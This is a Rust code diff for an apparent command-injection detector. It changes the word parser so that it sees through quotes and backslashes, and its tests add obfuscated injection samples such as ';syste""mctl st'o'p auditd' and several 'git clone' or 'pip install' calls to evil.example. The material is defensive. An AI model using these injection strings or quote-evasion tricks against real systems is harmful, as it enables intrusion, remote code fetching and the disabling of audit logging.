@@ -94,40 +94,67 @@ const TOOLS: [(Names, Names); 5] = [
     (&[b"podman"], &[b"run", b"exec", b"ps", b"pull", b"images"]),
 ];
 
-/// The word from `at` on, and its end.
-fn name(value: &[u8], at: usize) -> (&[u8], usize) {
-    let text = upto(rest(value, at), 24);
-    let length = text
-        .iter()
-        .position(|&letter| !(is_word(letter) || letter == b'-'))
-        .unwrap_or(text.len());
-    (
-        text.get(..length).unwrap_or(text),
-        at.saturating_add(length),
-    )
+/// Bytes of a name that are read, and letters of it that are kept.
+const NAME: usize = 48;
+const LETTERS: usize = 24;
+
+/// A word as a shell reads it: without the quotes and backslashes within it.
+struct Name {
+    letters: [u8; LETTERS],
+    length: usize,
+    end: usize,
+}
+
+impl Name {
+    /// The word from `at` on.
+    fn read(value: &[u8], at: usize) -> Self {
+        let mut name = Self {
+            letters: [0; LETTERS],
+            length: 0,
+            end: at,
+        };
+        for &letter in part(value, at, NAME) {
+            if is_word(letter) || letter == b'-' {
+                let Some(place) = name.letters.get_mut(name.length) else {
+                    break;
+                };
+                *place = letter;
+                name.length = name.length.saturating_add(1);
+            } else if !matches!(letter, b'\'' | b'"' | b'\\') {
+                break;
+            }
+            name.end = name.end.saturating_add(1);
+        }
+        name
+    }
+
+    fn text(&self) -> &[u8] {
+        self.letters.get(..self.length).unwrap_or(&[])
+    }
 }
 
 /// `;git clone http://…`, `|systemctl stop x`, `;service x stop`: from the word behind a separator on.
 pub(super) fn runs(value: &[u8], at: usize) -> bool {
-    let (tool, end) = name(value, at);
-    if !is_space(byte(value, end)) {
+    let tool = Name::read(value, at);
+    if !is_space(byte(value, tool.end)) {
         return false;
     }
-    let (verb, after) = name(value, skip_space(value, end));
+    let verb = Name::read(value, skip_space(value, tool.end));
+    let (tool, after) = (tool.text(), verb.end);
     let ends = after >= value.len() || is_space(byte(value, after)) || byte(value, after) == b';';
     if tool == b"service" {
-        let (verb, after) = name(value, skip_space(value, after));
-        let ends = after >= value.len() || !is_space(byte(value, after));
-        return ends && matches!(verb, b"start" | b"stop" | b"restart" | b"status");
+        let verb = Name::read(value, skip_space(value, after));
+        let ends = verb.end >= value.len() || !is_space(byte(value, verb.end));
+        return ends && matches!(verb.text(), b"start" | b"stop" | b"restart" | b"status");
     }
     if tool == b"format" {
         // `format c:`
-        return verb.len() == 1 && byte(value, after) == b':';
+        return verb.length == 1 && byte(value, after) == b':';
     }
     let known = ends
         && TOOLS
             .iter()
-            .any(|(tools, verbs)| tools.contains(&tool) && verbs.contains(&verb));
+            .any(|(tools, verbs)| tools.contains(&tool) && verbs.contains(&verb.text()));
     // `npm run build`, said of it: a sentence goes on with words.
     known && !is_prose(rest(value, after))
 }
@@ -268,6 +295,11 @@ mod tests {
     fn tools_formulas_and_loaders_are_found() {
         for value in [
             ";git clone http://evil.example/r",
+            ";g''it clone http://evil.example/r",
+            "|pi\\p install evil",
+            ";syste\"\"mctl st'o'p auditd",
+            ";'apt' install nmap",
+            ";s\\ervice apache2 stop",
             "| git clone https://evil.example/a.git /tmp/a",
             "127.0.0.1;git clone http://evil.example/r",
             "x|pip install http://evil.example/p.tar.gz",
